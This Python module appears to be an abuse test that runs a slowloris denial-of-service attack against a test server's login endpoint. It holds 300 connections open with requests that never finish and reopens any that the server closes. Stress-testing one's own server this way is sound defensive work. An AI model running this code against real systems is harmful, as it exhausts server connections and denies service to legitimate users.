"""Send the heads of requests byte by byte over many connections (slowloris), and bodies likewise."""

import asyncio
from contextlib import suppress
from urllib.parse import urlsplit

from tests.abuse.target import Target

_CONNECTIONS = 300


async def attack(target: Target, seconds: float) -> None:
    """Hold connections that never finish a request; those that the server closes are opened again."""
    address = urlsplit(target.url)
    loop = asyncio.get_running_loop()
    end = loop.time() + seconds
    head = f"POST /api/v10/auth/login HTTP/1.1\r\nHost: localhost\r\nX-Forwarded-For: {target.address}\r\n".encode()

    async def hold(number: int) -> None:
        while loop.time() < end:
            writer = None
            try:
                _, writer = await asyncio.open_connection(address.hostname, address.port)
                if number % 2:
                    writer.write(head + b"Content-Type: application/json\r\nContent-Length: 100000\r\n\r\n")
                else:
                    writer.write(head)
                while loop.time() < end:
                    writer.write(b"x" if number % 2 else b"X-A: b\r\n")
                    await writer.drain()
                    await asyncio.sleep(1)
            except OSError:
                await asyncio.sleep(0.1)
            finally:
                if writer is not None:
                    writer.transport.abort()

    tasks = [asyncio.create_task(hold(number)) for number in range(_CONNECTIONS)]
    await asyncio.wait(tasks, timeout=seconds + 5)
    for task in tasks:
        task.cancel()
    with suppress(asyncio.CancelledError):
        await asyncio.gather(*tasks)
